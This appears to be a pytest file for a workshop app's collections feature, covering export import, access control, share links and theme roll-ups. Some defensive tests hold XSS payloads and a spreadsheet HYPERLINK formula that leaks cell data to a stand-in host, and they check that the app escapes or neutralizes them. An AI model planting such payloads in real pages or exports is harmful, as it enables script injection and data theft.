"""Collections: importing results exports (and importing the same one again), refusing files
that are not exports, adding sessions of this server, who may see a collection, what a share
link opens, regional themes confirmed and split, movement since an earlier round, and
`workshop import`.

A session of this server is the reference session of tests/results_support.py: it has a
hidden answer and names, which must never reach a collection."""

from __future__ import annotations

import copy
import html
import io
import itertools
import json
from datetime import timedelta

import pytest
from collections_support import TABLES, TableSpec, export_bytes, export_of
from pypdf import PdfReader
from results_support import HIDDEN_TEXT, NAME, build_reference_session
from room import open_room
from sqlalchemy import func, select

from workshop import clock
from workshop.collections.records import CollectionMember, CollectionShareLink
from workshop.extensions import db

NORTH, SOUTH = TABLES[0], TABLES[1]


@pytest.fixture
def room(tmp_path):
    with open_room(tmp_path) as room:
        yield room


def with_value(document: dict, *path, value) -> dict:
    """`document` with the item at `path` (keys and indexes) set to `value`, in place."""
    *parents, last = path
    node = document
    for step in parents:
        node = node[step]
    node[last] = value
    return document


def new_collection(owner, name: str = "SRT retrospectives") -> str:
    reply = owner.post("/facilitator/collections/", {"name": name})
    assert reply.status_code == 302
    return reply.headers["Location"].removesuffix("tables")


def upload(owner, base: str, *files: tuple[str, bytes], **fields):
    data = {"files": [(io.BytesIO(body), name) for name, body in files], **fields}
    return owner.post(base + "import", data)


def stored_members(room) -> list[tuple[str, str]]:
    with room.app.app_context():
        rows = db.session.execute(
            select(CollectionMember.table_name, CollectionMember.results_json)
        )
        return [(name, text) for name, text in rows]


# -- importing ------------------------------------------------------------------------------


def test_import_then_import_again_replaces_and_never_duplicates(room):
    owner = room.facilitator()
    base = new_collection(owner)
    reply = upload(owner, base, ("north.json", export_bytes(NORTH, 11)), table_name="North")
    assert reply.status_code == 302
    assert "Imported 1 session." in owner.page(base + "tables")
    # The same session (same server, number and start), exported later with another vote.
    later = export_of(NORTH, 11)
    later["themes"][0]["points"] = 99
    reply = upload(owner, base, ("north-again.json", json.dumps(later).encode()))
    assert reply.status_code == 302
    page = owner.page(base + "tables")
    assert "its results were replaced" in page
    [(name, text)] = stored_members(room)
    assert name == "North"  # the owner's name for the table is kept
    assert json.loads(text)["themes"][0]["points"] == 99
    # Another session of the same table (another number) is another table.
    upload(owner, base, ("other.json", export_bytes(NORTH, 12)), table_name="North, round 2")
    assert len(stored_members(room)) == 2


def test_the_same_number_on_another_server_is_another_session(room):
    owner = room.facilitator()
    base = new_collection(owner)
    upload(owner, base, ("a.json", export_bytes(NORTH, 11, server_id="a" * 32)), table_name="A")
    upload(owner, base, ("b.json", export_bytes(SOUTH, 11, server_id="b" * 32)), table_name="B")
    assert [name for name, _ in stored_members(room)] == ["A", "B"]


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"\x89PNG\r\n\x1a\n", "notes.json is not a results export"),
        (b'{"title": "my notes"}', "notes.json is not a results export"),
        (b"[1, 2, 3]", "notes.json is not a results export"),
        (
            json.dumps({**export_of(NORTH, 11), "schema_version": 2}).encode(),
            "notes.json is a results export of schema version 2; this server reads version 1",
        ),
        (
            json.dumps(
                {**export_of(NORTH, 11), "participation": {"participants": "many"}}
            ).encode(),
            "notes.json is not a readable results export: &#39;participation.participants&#39;",
        ),
        (
            json.dumps(
                {
                    **export_of(NORTH, 11),
                    "workshop": {**export_of(NORTH, 11)["workshop"], "created_at": "yesterday"},
                }
            ).encode(),
            "&#39;workshop.created_at&#39; is missing or wrong",
        ),
        (json.dumps({**export_of(NORTH, 11), "themes": 7}).encode(), "&#39;themes&#39;"),
        (
            json.dumps(with_value(export_of(NORTH, 11), "responses", 0, "id", value=[1])).encode(),
            "&#39;responses[0]&#39; is missing or wrong",
        ),
        (
            json.dumps(
                with_value(
                    export_of(NORTH, 11),
                    "themes",
                    0,
                    "questions",
                    0,
                    "response_ids",
                    value=[{"id": 1}],
                )
            ).encode(),
            "&#39;themes[0].questions[0].response_ids&#39; is missing or wrong",
        ),  # fmt: skip
        (
            json.dumps(with_value(export_of(NORTH, 11), "themes", 0, "points", value=-50)).encode(),
            "&#39;themes[0].points&#39; is missing or wrong",
        ),
        (
            json.dumps(
                with_value(export_of(NORTH, 11), "source", "server_id", value="a" * 65)
            ).encode(),
            "&#39;source.server_id&#39; is missing or wrong",
        ),
    ],
)
def test_a_file_that_is_not_an_export_is_refused_and_changes_nothing(room, body, message):
    owner = room.facilitator()
    base = new_collection(owner)
    upload(owner, base, ("north.json", export_bytes(NORTH, 11)), table_name="North")
    before = stored_members(room)
    reply = upload(owner, base, ("notes.json", body))
    assert reply.status_code == 400
    page = reply.get_data(as_text=True)
    assert message in page
    assert 'class="error"' in page and "Traceback" not in page
    assert stored_members(room) == before


def test_a_bad_file_among_good_ones_stops_only_itself(room):
    owner = room.facilitator()
    base = new_collection(owner)
    reply = upload(
        owner, base, ("north.json", export_bytes(NORTH, 11)), ("x.json", b"{}"),
        ("south.json", export_bytes(SOUTH, 12)),
    )  # fmt: skip
    assert reply.status_code == 400
    assert "x.json is not a results export" in reply.get_data(as_text=True)
    assert len(stored_members(room)) == 2


def test_a_table_name_given_with_several_files_is_refused_not_dropped(room):
    owner = room.facilitator()
    base = new_collection(owner)
    reply = upload(
        owner, base, ("north.json", export_bytes(NORTH, 11)),
        ("south.json", export_bytes(SOUTH, 12)), table_name="North",
    )  # fmt: skip
    assert reply.status_code == 400
    assert "A name, date and place describe one table" in reply.get_data(as_text=True)
    assert stored_members(room) == []


def test_hidden_answers_and_names_in_an_export_are_not_kept(room):
    owner = room.facilitator()
    base = new_collection(owner)
    document = export_of(NORTH, 11)
    document["names_included"] = True
    document["responses"][0]["name"] = "Ana López"
    document["responses"][1]["hidden"] = True
    document["responses"][1]["text"] = "A rude remark"
    upload(owner, base, ("north.json", json.dumps(document).encode()), table_name="North")
    [(_, text)] = stored_members(room)
    assert "Ana López" not in text and "A rude remark" not in text
    kept = json.loads(text)
    assert kept["audience"] == "shared" and kept["names_included"] is False
    hidden_id = document["responses"][1]["id"]
    assert all(hidden_id not in q["response_ids"] for t in kept["themes"] for q in t["questions"])


def test_two_tables_cannot_share_a_name(room):
    owner = room.facilitator()
    base = new_collection(owner)
    upload(owner, base, ("n.json", export_bytes(NORTH, 11)), table_name="North")
    reply = upload(owner, base, ("s.json", export_bytes(SOUTH, 12)), table_name="north ")
    assert reply.status_code == 400
    assert "already called “north”" in reply.get_data(as_text=True)
    assert len(stored_members(room)) == 1


# -- sessions of this server ---------------------------------------------------------------


def test_adding_a_session_of_this_server_and_its_export_is_one_table(room):
    ref = build_reference_session(room)
    base = new_collection(ref.host)
    assert f'value="{ref.session.id}"' in ref.host.page(base + "tables")
    reply = ref.host.post(base + "add", {"workshop_id": str(ref.session.id)})
    assert reply.status_code == 302
    [(name, text)] = stored_members(room)
    assert HIDDEN_TEXT not in text and NAME not in text  # as a share link shows it
    # Its vote (see results_support.EXPECTED): Relationships 10, Childcare 7 (linked to the
    # workforce strategy), Shared information 5 (cybersecurity): 22 points.
    rollup = ref.host.get(base + "download/json").json
    scores = {s["id"]: round(s["scores"]["equal"]["score"] * 100, 1) for s in rollup["strategies"]}
    assert scores["education-workforce-ecosystem"] == 31.8  # 7/22
    assert scores["cybersecurity"] == 22.7  # 5/22
    assert [(o["theme"], round(o["share"] * 100, 1)) for o in rollup["not_in_plan"]] == [
        ("Relationships", 45.5)  # 10/22, no strategy
    ]
    # Its export, downloaded by the facilitator (hidden answer and names included), is the
    # same session: importing it replaces the table rather than adding one.
    export = ref.host.get(f"/facilitator/w/{ref.session.id}/results/download/json").data
    assert NAME.encode() in export
    upload(ref.host, base, ("mine.json", export))
    [(same_name, text)] = stored_members(room)
    assert same_name == name and NAME not in text and HIDDEN_TEXT not in text


def test_a_spanish_reader_of_the_roll_up_reads_the_agendas_questions_and_roles_in_spanish(room):
    """The export names questions and roles in English and carries the agenda's Spanish
    beside them, so the roll-up page and PDF in Spanish use the agenda's own words."""
    ref = build_reference_session(room)
    base = new_collection(ref.host)
    ref.host.post(base + "add", {"workshop_id": str(ref.session.id)})
    spanish = html.unescape(ref.host.page(base + "?lang=es"))
    assert (
        "Al mirar hacia atrás el último año de nuestra mesa subregional, ¿qué funcionó bien?"
        in spanish
    )
    assert "Presidencia de la SRT" in spanish and "Integrante de la SRT" in spanish
    assert "what worked well?" not in spanish and ">SRT chair<" not in spanish
    english = html.unescape(ref.host.page(base + "?lang=en"))
    assert "what worked well?" in english and ">SRT chair<" in english
    pdf = PdfReader(io.BytesIO(ref.host.get(base + "download/pdf?lang=es").data))
    text = " ".join(" ".join(page.extract_text().split()) for page in pdf.pages)
    assert "¿qué funcionó bien?: " in text and "Presidencia de la SRT 1" in text


def test_only_sessions_one_runs_can_be_added(room):
    ref = build_reference_session(room)
    stranger = room.facilitator()
    base = new_collection(stranger)
    assert f'value="{ref.session.id}"' not in stranger.page(base + "tables")
    stranger.post(base + "add", {"workshop_id": str(ref.session.id)})
    assert "no session of yours has that number" in stranger.page(base + "tables")
    assert stored_members(room) == []


# -- who may see a collection -------------------------------------------------------------

OWNER_PAGES = ["", "tables", "themes", "settings", "download/csv", "download/json"]
OWNER_POSTS = ["import", "add", "refresh", "tables", "themes/propose", "themes/group",
               "settings", "owners", "share", "delete"]  # fmt: skip


def test_nobody_but_the_owners_reaches_a_collection(room):
    owner, other = room.facilitator(), room.facilitator()
    base = new_collection(owner, "Inland Empire round")
    upload(owner, base, ("n.json", export_bytes(NORTH, 11)), table_name="North")
    number = base.rstrip("/").rsplit("/", 1)[1]
    for path in OWNER_PAGES:
        assert owner.get(base + path).status_code == 200, path
        assert other.get(base + path).status_code == 404, path
        assert room.anonymous().get(base + path).status_code == 302, path  # to the sign-in
    for path in OWNER_POSTS:
        assert other.post(base + path, {"name": "x"}).status_code == 404, path
    assert other.get(f"/api/collections/{number}/rollup").status_code == 404
    assert room.anonymous().get(f"/api/collections/{number}/rollup").status_code == 401
    assert "Inland Empire round" not in other.page("/facilitator/collections/")
    assert len(stored_members(room)) == 1


def test_a_co_owner_sees_it_until_removed(room):
    owner, partner = room.facilitator(), room.facilitator()
    base = new_collection(owner)
    assert partner.get(base).status_code == 404
    reply = owner.post(base + "owners", {"email": "nobody@example.org"})
    assert reply.status_code == 400
    assert "no facilitator of this server has that e-mail address" in reply.get_data(as_text=True)
    assert owner.post(base + "owners", {"email": partner.email}).status_code == 302
    assert partner.get(base).status_code == 200
    assert "SRT retrospectives" in partner.page("/facilitator/collections/")
    with room.app.app_context():
        partner_id = partner.id
    assert owner.post(base + f"owners/{partner_id}/remove").status_code == 302
    assert partner.get(base).status_code == 404


def test_the_last_owner_stays(room):
    owner = room.facilitator()
    base = new_collection(owner)
    reply = owner.post(base + f"owners/{owner.id}/remove")
    assert reply.status_code == 302, reply.get_data(as_text=True)[:500]
    assert "a collection keeps at least one owner" in owner.page(base + "settings")
    assert owner.get(base).status_code == 200


def test_deleting_asks_to_confirm_and_leaves_the_sessions(room):
    ref = build_reference_session(room)
    base = new_collection(ref.host)
    ref.host.post(base + "add", {"workshop_id": str(ref.session.id)})
    ref.host.post(base + "delete")
    assert ref.host.get(base).status_code == 200
    assert ref.host.post(base + "delete", {"sure": "1"}).status_code == 302
    assert ref.host.get(base).status_code == 404
    assert stored_members(room) == []
    assert ref.host.get(f"/facilitator/w/{ref.session.id}/results").status_code == 200


# -- share links ----------------------------------------------------------------------------


def share(owner, base: str, **fields) -> str:
    owner.post(base + "share", {"expires_in_days": "30", **fields})
    page = owner.page(base + "settings")
    return (
        page.split('id="new-link" value="', 1)[1].split('"', 1)[0].removeprefix("http://localhost")
    )


def test_a_share_link_opens_the_roll_up_read_only_and_nothing_else(room):
    owner = room.facilitator()
    base = new_collection(owner)
    upload(owner, base, ("n.json", export_bytes(NORTH, 11)), table_name="North")
    other_base = new_collection(owner, "Another round")
    link = share(owner, base, label="Evaluators")
    token = link.rsplit("/", 1)[1]
    reader = room.anonymous()
    page = reader.get(link)
    assert page.status_code == 200 and "North" in page.get_data(as_text=True)
    assert page.headers["Referrer-Policy"] == "no-referrer"
    assert "noindex" in page.headers["X-Robots-Tag"]
    assert not page.headers.getlist("Set-Cookie")
    assert "Settings and sharing" not in page.get_data(as_text=True)  # no owner's tabs
    for fmt in ("csv", "xlsx", "json", "pdf"):
        assert reader.get(f"{link}/download/{fmt}").status_code == 200
    assert (
        reader.get(f"/api/share/rollup/{token}").json["collection"]["name"] == "SRT retrospectives"
    )
    # Nothing else: not the owner's pages, not another collection, not a session's share link.
    for path in (base, base + "tables", other_base, f"/shared/{token}"):
        assert reader.get(path).status_code in (302, 404), path
    assert reader.get(base).status_code == 302  # the sign-in page, not the collection


def test_a_revoked_or_expired_share_link_stops_at_once(room):
    owner = room.facilitator()
    base = new_collection(owner)
    first, second = share(owner, base), share(owner, base)
    with room.app.app_context():
        links = db.session.scalars(
            select(CollectionShareLink).order_by(CollectionShareLink.id)
        ).all()
        links[1].expires_at = clock.now() - timedelta(seconds=1)
        db.session.commit()
        first_id = links[0].id
    assert room.anonymous().get(second).status_code == 404
    assert room.anonymous().get(first).status_code == 200
    owner.post(base + f"share/{first_id}/revoke")
    assert room.anonymous().get(first).status_code == 404
    assert room.anonymous().get(first + "/download/json").status_code == 404
    with room.app.app_context():  # only hashes are stored
        stored = db.session.scalars(select(CollectionShareLink.token_hash)).all()
    assert first.rsplit("/", 1)[1] not in stored


def test_a_shared_roll_up_holds_no_name(room):
    ref = build_reference_session(room)
    base = new_collection(ref.host)
    ref.host.post(base + "add", {"workshop_id": str(ref.session.id)})
    link = share(ref.host, base)
    for path in (link, link + "/download/json", link + "/download/csv"):
        body = room.anonymous().get(path).data
        assert NAME.encode() not in body and HIDDEN_TEXT.encode() not in body


# -- regional themes and the earlier round ------------------------------------------------


def themes_page_refs(owner, base) -> dict[tuple[str, str], str]:
    import re

    page = owner.page(base + "themes")
    pattern = r'name="theme" value="(\d+:\d+)">\s*<span><strong>([^<]+)</strong>: ([^\n<]+)'
    return {(t, title.strip()): v for v, t, title in re.findall(pattern, page)}


def six_tables(owner, base: str) -> None:
    for number, spec in enumerate(TABLES, start=11):
        upload(owner, base, (f"{spec.name}.json", export_bytes(spec, number)), table_name=spec.name)


def test_regional_themes_made_split_and_undone(room):
    owner = room.facilitator()
    base = new_collection(owner)
    six_tables(owner, base)
    refs = themes_page_refs(owner, base)
    chosen = [
        refs[("North", "Childcare")],
        refs[("South", "Cuidado infantil")],
        refs[("West", "Childcare")],
    ]
    owner.post(base + "themes/group", {"op": "make", "title": "Childcare", "theme": chosen})
    page = owner.page(base)
    assert "1. Childcare" in page and "South: <strong>#1</strong>" in page
    # A theme of one table alone is not a regional theme.
    reply = owner.post(base + "themes/group", {"op": "make", "title": "Alone", "theme": chosen[:1]})
    assert "choose themes of at least two tables" in owner.page(base + "themes")
    with room.app.app_context():
        from workshop.collections.records import RegionalTheme

        regional_id = db.session.scalar(
            select(RegionalTheme.id).where(RegionalTheme.title == "Childcare")
        )
    # Split West off: it is kept apart; North and South stay together.
    owner.post(base + f"themes/{regional_id}", {"op": "split", "theme": [chosen[2]]})
    page = owner.page(base)
    assert "West: <strong>#3</strong>" not in page and "North: <strong>#1</strong>" in page
    # Undo it: no regional theme left in the roll-up.
    owner.post(base + f"themes/{regional_id}", {"op": "reject"})
    assert "No regional theme has been confirmed yet" in owner.page(base)
    assert reply.status_code == 302


def test_proposals_meet_across_languages_and_wait_for_the_owner(room):
    from workshop.collections import review
    from workshop.collections.build import tables_of
    from workshop.collections.records import Collection
    from workshop.themes import suggest

    ok, why = suggest.available()
    assert ok, why
    owner = room.facilitator()
    base = new_collection(owner)
    six_tables(owner, base)
    with room.app.app_context():
        collection = db.session.get(Collection, int(base.rstrip("/").rsplit("/", 1)[1]))
        run = review.proposer_for(tables_of(db.session, collection))(lambda *_: None)
    assert run.unavailable == ""
    titles = {ref: title for (table, title), ref in themes_page_refs(owner, base).items()}
    proposed = [sorted(titles[f"{m}:{t}"] for m, t in p.themes) for p in run.proposals]
    # The childcare themes of the tables, the Spanish one among them, make one proposal;
    # no proposal holds two themes of one table; themes no other table shares stay out.
    care = next(p for p in proposed if "Cuidado infantil" in p)
    assert {"Childcare", "Child care access"} <= set(care)
    assert all(len({m for m, _ in p.themes}) == len(p.themes) for p in run.proposals)
    assert not any("Arts and culture" in p for p in proposed)
    # Stored, they wait as proposals: the roll-up ranks none until the owner confirms.
    with room.app.app_context():
        from workshop.collections import regional

        collection = db.session.get(Collection, collection.id)
        regional.replace_proposals(db.session, collection, run.proposals, clock.now())
        db.session.commit()
    page = owner.page(base)
    assert "No regional theme has been confirmed yet" in page and "wait for your review" in page


def test_movement_since_an_earlier_round(room):
    owner = room.facilitator()
    earlier = new_collection(owner, "Spring round")
    upload(owner, earlier, ("w.json", export_bytes(TABLES[3], 1)), table_name="West")
    upload(owner, earlier, ("n.json", export_bytes(TABLES[0], 2)), table_name="North")
    now = new_collection(owner, "Autumn round")
    six_tables(owner, now)
    earlier_id = earlier.rstrip("/").rsplit("/", 1)[1]
    owner.post(now + "settings", {"name": "Autumn round", "earlier": earlier_id})
    data = owner.get(now + "download/json").json["over_time"]
    assert data["earlier"]["name"] == "Spring round"
    assert data["tables"] == ["North", "West"]  # only the tables in both rounds count
    # Same ballots both rounds at North and West: nothing moved.
    moves = {
        m["id"]: (m["earlier_rank"], m["rank"], m["earlier_score"] == m["score"])
        for m in data["strategies"]
    }
    assert moves["access-transportation"] == (1, 1, True)
    page = owner.page(now)
    assert "Since “Spring round”" in page and "same rank" in page


def test_an_earlier_round_must_be_ones_own_other_collection(room):
    owner, other = room.facilitator(), room.facilitator()
    mine = new_collection(owner)
    theirs = new_collection(other, "Theirs")
    owner.post(mine + "settings", {"name": "x", "earlier": theirs.rstrip("/").rsplit("/", 1)[1]})
    assert "no collection of yours has that number" in owner.page(mine + "settings")
    owner.post(mine + "settings", {"name": "x", "earlier": mine.rstrip("/").rsplit("/", 1)[1]})
    assert "choose another collection for the earlier round" in owner.page(mine + "settings")


def test_a_co_owner_saving_the_settings_keeps_the_earlier_round_another_owner_chose(room):
    """The earlier round is a collection of the owner who chose it; a co-owner sees it
    chosen in the settings and saving them (a new description) keeps it."""
    owner, partner = room.facilitator(), room.facilitator()
    earlier = new_collection(owner, "Spring round")
    now = new_collection(owner, "Autumn round")
    earlier_id = earlier.rstrip("/").rsplit("/", 1)[1]
    owner.post(now + "settings", {"name": "Autumn round", "earlier": earlier_id})
    owner.post(now + "owners", {"email": partner.email})
    page = partner.page(now + "settings")
    assert f'<option value="{earlier_id}" selected>Spring round</option>' in page
    reply = partner.post(
        now + "settings",
        {"name": "Autumn round", "description": "Six tables", "earlier": earlier_id},
    )
    assert reply.status_code == 302
    assert partner.get(now + "download/json").json["over_time"]["earlier"]["name"] == "Spring round"
    partner.post(now + "settings", {"name": "Autumn round", "earlier": ""})  # theirs to clear
    assert partner.get(now + "download/json").json["over_time"] is None


# -- the command line -----------------------------------------------------------------------


def test_workshop_import_files_into_a_collection(room, tmp_path):
    owner = room.facilitator()
    files = []
    for number, spec in enumerate(TABLES[:3], start=11):
        path = tmp_path / f"{spec.name}.json"
        path.write_bytes(export_bytes(spec, number))
        files.append(str(path))
    (tmp_path / "bad.json").write_text("not json")
    runner = room.app.test_cli_runner()
    result = runner.invoke(
        args=["import", *files, "--collection", "Region", "--owner", owner.email]
    )
    assert result.exit_code == 0, result.output
    assert "created collection" in result.output and result.output.count("imported as table") == 3
    again = runner.invoke(args=["import", files[0], "--collection", "Region", "--table", "North"])
    assert again.exit_code == 0 and "replaced as table 'North'" in again.output
    bad = runner.invoke(args=["import", str(tmp_path / "bad.json"), "--collection", "Region"])
    assert bad.exit_code == 1 and "bad.json is not a results export" in bad.output
    assert "Traceback" not in bad.output
    missing = runner.invoke(args=["import", files[0], "--collection", "Nowhere"])
    assert "no collection has the number or name 'Nowhere'" in missing.output
    assert "(the collections: 1 'Region'); give --owner to create it" in missing.output
    with room.app.app_context():
        assert db.session.scalar(select(func.count()).select_from(CollectionMember)) == 3
    assert "Region" in owner.page("/facilitator/collections/")


def test_an_import_without_the_forms_token_is_refused(room):
    """The import view reads its own (large) body, so it checks the CSRF token itself."""
    owner = room.facilitator()
    base = new_collection(owner)
    room.app.config["WTF_CSRF_ENABLED"] = True  # after signing in: the test's forms omit it
    reply = upload(owner, base, ("n.json", export_bytes(NORTH, 11)), table_name="North")
    assert reply.status_code == 400
    assert "The form expired" in reply.get_data(as_text=True)
    assert stored_members(room) == []
    page = owner.page(base + "tables")  # with the page's token, the same file goes in
    token = page.split('name="csrf_token" type="hidden" value="', 1)[1].split('"', 1)[0]
    reply = upload(owner, base, ("n.json", export_bytes(NORTH, 11)), csrf_token=token)
    assert reply.status_code == 302 and len(stored_members(room)) == 1


def test_a_sessions_export_says_which_server_made_it_and_lists_the_plan(room):
    ref = build_reference_session(room)
    export = ref.host.get(f"/facilitator/w/{ref.session.id}/results/download/json").json
    with room.app.app_context():
        from workshop.models import Installation

        server_id = db.session.scalar(select(Installation.server_id))
    assert export["source"] == {"server_id": server_id} and len(server_id) == 32
    plan = {s["id"]: s for s in export["plan"]}
    assert len(plan) == 14  # the Thrive agenda's 14 strategies, named or not
    assert plan["access-childcare"]["translations"]["es"]["name"]
    assert plan["access-childcare"]["pillar"] == "Economic Mobility & Wealth Building Strategies"


def test_a_table_that_never_opened_a_vote_is_listed_and_left_out(room):
    owner = room.facilitator()
    base = new_collection(owner)
    quiet = TableSpec("Hills", {"SRT member": 4}, [("Parks", [], ["More parks"])], voted=False)
    upload(owner, base, ("n.json", export_bytes(NORTH, 11)), table_name="North")
    upload(owner, base, ("h.json", export_bytes(quiet, 12)), table_name="Hills")
    rollup = owner.get(base + "download/json").json
    hills = next(t for t in rollup["tables"] if t["name"] == "Hills")
    assert hills["vote"] is None and hills["counted"] is False
    childcare = next(s for s in rollup["strategies"] if s["id"] == "access-childcare")
    assert childcare["scores"]["equal"]["score"] == round(10 / 24, 6)  # North's share alone
    assert "Left out:" in owner.page(base) and "Hills" in owner.page(base)


def test_user_text_is_escaped_on_the_page_and_neutralized_in_spreadsheets(room):
    import csv
    import zipfile

    owner = room.facilitator()
    base = new_collection(owner, "<b>Region</b>")
    evil = TableSpec(
        "X",
        {"SRT member": 2},
        [('=HYPERLINK("http://x")', [], ["<script>alert(1)</script>"]), ("Safe", [], ["ok"])],
        [('=HYPERLINK("http://x")',), ("Safe",)],
    )
    upload(
        owner, base, ("x.json", export_bytes(evil, 11)), table_name="<img src=x onerror=alert(1)>"
    )
    page = owner.page(base)
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<b>Region</b>" not in page and "&lt;b&gt;Region&lt;/b&gt;" in page
    themes = owner.page(base + "themes")
    assert "<script>alert(1)</script>" not in themes
    with zipfile.ZipFile(io.BytesIO(owner.get(base + "download/csv").data)) as archive:
        rows = list(
            csv.DictReader(io.StringIO(archive.read("not_in_plan.csv").decode("utf-8-sig")))
        )
    assert [row["theme"] for row in rows] == ['\'=HYPERLINK("http://x")', "Safe"]


def test_a_table_named_like_a_formula_heads_the_matrix_as_text(room):
    """Table names head the matrix's columns: a name that starts like a formula is text there
    too, in the CSV (a leading ') and in Excel (a text cell, never a formula)."""
    import csv
    import zipfile

    from openpyxl import load_workbook

    owner = room.facilitator()
    base = new_collection(owner)
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
    upload(owner, base, ("x.json", export_bytes(NORTH, 11)), table_name=formula)
    with zipfile.ZipFile(io.BytesIO(owner.get(base + "download/csv").data)) as archive:
        header = next(csv.reader(io.StringIO(archive.read("matrix.csv").decode("utf-8-sig"))))
    assert "'" + formula in header and formula not in header
    book = load_workbook(io.BytesIO(owner.get(base + "download/xlsx").data))
    names = [c for c in book["Matrix"][1] if c.value == formula]
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)


def test_a_themes_spanish_title_in_an_export_reaches_spanish_readers(room):
    owner = room.facilitator()
    base = new_collection(owner)
    document = export_of(TABLES[5], 11)  # Mountain: "Arts and culture" serves no strategy
    arts = next(t for t in document["themes"] if t["title"] == "Arts and culture")
    arts["title_es"] = "Arte y cultura"
    upload(owner, base, ("m.json", json.dumps(document).encode()), table_name="Mountain")
    assert "Arte y cultura" in owner.page(base + "?lang=es")
    english = owner.page(base + "?lang=en")
    assert "Arts and culture" in english and "Arte y cultura" not in english


def test_a_regional_themes_chip_shows_a_tables_spanish_title_to_spanish_readers(room):
    """A table's theme titled like the regional theme in English may carry a Spanish title:
    the Spanish page names it (it was left out as "the same as the regional title")."""
    owner = room.facilitator()
    base = new_collection(owner)
    north = export_of(NORTH, 11)
    next(t for t in north["themes"] if t["title"] == "Childcare")["title_es"] = "Guarderías"
    upload(owner, base, ("n.json", json.dumps(north).encode()), table_name="North")
    upload(owner, base, ("s.json", export_bytes(SOUTH, 12)), table_name="South")
    refs = themes_page_refs(owner, base)
    chosen = [refs[("North", "Childcare")], refs[("South", "Cuidado infantil")]]
    owner.post(base + "themes/group", {"op": "make", "title": "Childcare", "theme": chosen})
    assert 'North: <strong>#1</strong> <span class="muted">“Guarderías”</span>' in owner.page(
        base + "?lang=es"
    )
    english = owner.page(base + "?lang=en")
    assert "North: <strong>#1</strong></li>" in english  # the regional title says it already


# -- any change to an export ------------------------------------------------------------------


def fields_of(node, path: tuple = ()):
    """The path of every key and item (the first two items of a list) in a decoded export."""
    children = node.items() if isinstance(node, dict) else enumerate(node[:2]) if isinstance(node, list) else ()  # fmt: skip
    for key, child in children:
        yield (*path, key)
        yield from fields_of(child, (*path, key))


# What a hand-edited or damaged file may hold where a field was: each path gets the next one.
ODD_VALUES = [None, "", -1, 10**20, 1.5, True, [], {}, [None], "x" * 3000, "\x00\x0b", "\ud800"]
REMOVED = object()


def changed(document: dict, path: tuple, value) -> dict:
    document = copy.deepcopy(document)
    *parents, last = path
    node = document
    for step in parents:
        node = node[step]
    if value is REMOVED:
        del node[last]
    else:
        node[last] = value
    return document


def test_any_one_field_changed_is_imported_or_refused_and_every_download_still_works(room):
    """Each field of an export, in turn, holds an odd value or is gone: the import is kept or
    refused with a message (never a server error), and the roll-up's page and its four
    downloads still work. Found: a theme list that is no list, an answer id that is a list, a
    server id longer than the key, control characters in Excel, a name taller than a page."""
    owner = room.facilitator()
    base = new_collection(owner)
    upload(owner, base, ("south.json", export_bytes(SOUTH, 12)), table_name="South")
    good = export_of(NORTH, 11)
    odd = itertools.cycle([*ODD_VALUES, REMOVED])
    kept = 0
    for path in fields_of(good):
        body = json.dumps(changed(good, path, next(odd))).encode()
        reply = upload(owner, base, ("north.json", body), table_name="North")
        assert reply.status_code in (302, 400), (path, reply.status_code)
        if reply.status_code == 400:
            assert 'class="error"' in reply.get_data(as_text=True), path
            continue
        kept += 1
        for view in ("", "tables", "themes", *(f"download/{f}" for f in ("csv", "xlsx", "json", "pdf"))):  # fmt: skip
            assert owner.get(base + view).status_code == 200, (path, view)
    assert kept > 20  # optional fields and free text are taken as they come


def test_a_tally_hidden_from_the_room_is_not_kept_from_a_facilitators_export(room):
    """The facilitator's export holds the open round's hidden tally (as the console shows it);
    a collection keeps what a share link shows: no tally until the round closes."""
    host = room.facilitator()
    session = host.start("dots")  # its tally stays hidden from the room while the vote is open
    phone = room.phone(session, role="Member")
    host.go_to(session, 1)
    assert host.vote(session, "open", source="fixed").status_code == 302
    (stored,) = room.rounds(session)
    phone.ballot(stored["id"], stored["candidates"]["Transit"], stored["candidates"]["Housing"])
    download = f"/facilitator/w/{session.id}/results/download/json"
    export = host.get(download).get_json()
    assert export["vote"]["tally_hidden"] is True and export["vote"]["ballots_cast"] == 1
    base = new_collection(host)
    upload(host, base, ("dots.json", host.get(download).data), table_name="Dots")
    (kept,) = [json.loads(text) for _, text in stored_members(room)]
    assert kept["vote"] is None and kept["participation"]["ballots_cast"] is None
    assert all(theme["points"] is None for theme in kept["themes"])
    rollup = host.get(base + "download/json").get_json()
    assert [t["counted"] for t in rollup["tables"]] == [False]
    host.vote(session, "close", round_id=str(stored["id"]))
    upload(host, base, ("dots.json", host.get(download).data))
    rollup = host.get(base + "download/json").get_json()
    assert [t["counted"] for t in rollup["tables"]] == [True]


def test_a_table_exported_with_its_vote_open_counts_as_an_interim_tally(room):
    """An export made before the vote closed is counted as it stood, and said to be interim
    on the tables page, the roll-up page and in the JSON (it was counted without a word)."""
    owner = room.facilitator()
    base = new_collection(owner)
    upload(owner, base, ("s.json", export_bytes(SOUTH, 12)), table_name="South")
    early = export_of(NORTH, 11)
    early["vote"]["status"], early["vote"]["closed_at"] = "open", None
    upload(owner, base, ("n.json", json.dumps(early).encode()), table_name="North")
    page = owner.page(base)
    assert (
        "Interim tallies (the vote was still open when the results were read):</strong> North"
        in page
    )
    assert "the vote was still open: an interim tally" in owner.page(base + "tables")
    tables = {t["name"]: t for t in owner.get(base + "download/json").json["tables"]}
    assert (tables["North"]["counted"], tables["North"]["vote"]["open"]) == (True, True)
    assert tables["South"]["vote"]["open"] is False
    spanish = owner.page(base + "?lang=es")
    assert "Conteos provisionales" in spanish
    report = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(owner.get(base + "download/pdf").data)).pages)  # fmt: skip
    assert (  # in Spanish: the Spanish page was read last
        "Conteos provisionales (la votación seguía abierta cuando se leyeron los resultados): North"
        in report.replace("\n", " ")
    )
